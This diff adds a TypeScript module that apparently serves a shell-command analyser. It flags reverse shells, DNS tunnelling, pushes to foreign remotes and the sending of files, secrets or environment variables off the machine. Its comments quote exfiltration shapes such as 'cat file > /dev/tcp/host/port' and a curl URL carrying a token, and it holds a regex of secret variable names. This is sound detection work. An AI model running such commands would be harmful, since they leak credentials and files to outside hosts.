@@ -1,0 +1,100 @@
+// What leaves this machine by an execution: the files whose content it sends, whole environments, shells that it hands
+// to the other side. Worked out when the execution is reported, from its arguments and from what made its input and words.
+import { type Channel, type Effect, type Execution, UNKNOWN } from "../execution.ts"
+import type { ShellState } from "../shell/shell-state.ts"
+import type { Walk } from "../shell/walk.ts"
+import { contentOf } from "./content-of.ts"
+import { DROPS } from "./drops.ts"
+import { networkClass } from "./network-class.ts"
+import { pushesElsewhere } from "./pushes-elsewhere.ts"
+import { readAddress } from "./read-address.ts"
+import { remoteShell } from "./remote-shell.ts"
+import { type Sending, sendingOf } from "./sending-of.ts"
+import { tunnelsNames } from "./tunnels-names.ts"
+
+/** Adds to the effects and traits of the execution. */
+export function noteSent(execution: Execution, state: ShellState, walk: Walk): void {
+  const makers = { input: state.inputFrom ?? [], words: state.wordsFrom ?? [] }
+  if (remoteShell(execution, makers.input)) execution.traits.push("reverse-shell")
+  if (tunnelsNames(execution, makers.words)) execution.traits.push("dns-tunnel")
+  if (pushesElsewhere(execution, walk.reported)) execution.traits.push("foreign-remote")
+  if (tellsSecret(execution, walk)) execution.traits.push("holds-secret")
+  const sending = sendingOf(execution, state.input) ?? throughDevice(execution, makers.input)
+  if (!sending) return
+  const to = destinationsOf(execution, sending)
+  if (to.length > 0 && to.every((address) => networkClass(address) === "loopback")) return
+  const channel: Channel = to.some(isDrop) ? "drop" : sending.channel
+  const fromInput = sending.input || state.origin === "xargs" || state.origin === "parallel"
+  walk.budget.spend((sending.files.length * walk.reported.length) / 8)
+  const copied = sending.files.flatMap(({ target }) => contentOf(target, execution.cwd, walk.reported))
+  const sources = [...makers.words, ...(fromInput ? makers.input : []), ...copied]
+  walk.budget.spend(sources.length / 32)
+  if (sources.some(printsEnvironment)) execution.traits.push("sends-environment")
+  execution.effects.push(
+    ...sources.flatMap(({ effects }) => effects.filter(isRead).map((effect) => sent(effect, channel))),
+    ...sending.files.map(({ target, recursive }) =>
+      sent({ access: "send", target, recursive, cwd: execution.cwd }, channel),
+    ),
+  )
+}
+
+/** A secret in the words of what reaches the network: curl https://example.com/?token=… */
+function tellsSecret({ program, argv, effects }: Execution, { context }: Walk): boolean {
+  const { holdsSecret } = context
+  if (!holdsSecret || program === "" || !effects.some(({ access }) => access === "fetch")) return false
+  return argv.some((word) => holdsSecret(word))
+}
+
+/** `cat file > /dev/tcp/host/port`: what the command reads goes there. */
+function throughDevice(execution: Execution, makers: readonly Execution[]): Sending | undefined {
+  const to = makers
+    .filter(({ program }) => program === "")
+    .flatMap(({ effects }) => effects.filter(isConnection))
+  if (execution.program === "" || to.length === 0) return undefined
+  const files = execution.effects.filter(isRead)
+  if (printsEnvironment(execution)) execution.traits.push("sends-environment")
+  return { channel: "raw", to: to.map(({ target }) => target), files, input: true }
+}
+
+function isConnection({ access, target }: Effect): boolean {
+  return access === "fetch" && target.startsWith("http://")
+}
+
+function sent(effect: Effect, channel: Channel): Effect {
+  return { ...effect, access: "send", channel }
+}
+
+/** A descriptor, and a device, is no file whose content anybody wants. */
+function isRead({ access, target }: Effect): boolean {
+  return access === "read" && !/^(-|\/dev\/.*|https?:.*)$/s.test(target)
+}
+
+function destinationsOf({ effects }: Execution, { to }: Sending): readonly string[] {
+  return to.length > 0 ? to : effects.filter(({ access }) => access === "fetch").map(({ target }) => target)
+}
+
+function isDrop(address: string): boolean {
+  return DROPS.test(readAddress(address)?.hostname ?? "")
+}
+
+/** Names that a variable's secret is asked for by: printenv AWS_SECRET_ACCESS_KEY. */
+const SECRET_NAME = /(secret|token|passw|credential|api_?key|private_?key|access_?key|auth)/i
+
+function printsEnvironment({ program, arguments: { flags, operands }, argv }: Execution): boolean {
+  switch (program) {
+    case "env":
+    case "printenv":
+      return operands.every((word) => word.includes("=") || SECRET_NAME.test(word))
+    case "set":
+      return argv.length === 1
+    case "export":
+    case "declare":
+    case "typeset":
+    case "readonly":
+      return operands.length === 0 && flags.every(({ name }) => /^-[pxr]$/.test(name))
+    case "compgen":
+      return flags.some(({ name }) => name === "-v" || name === "-e")
+    default:
+      return operands.some((word) => word === UNKNOWN) && program === "printenv"
+  }
+}
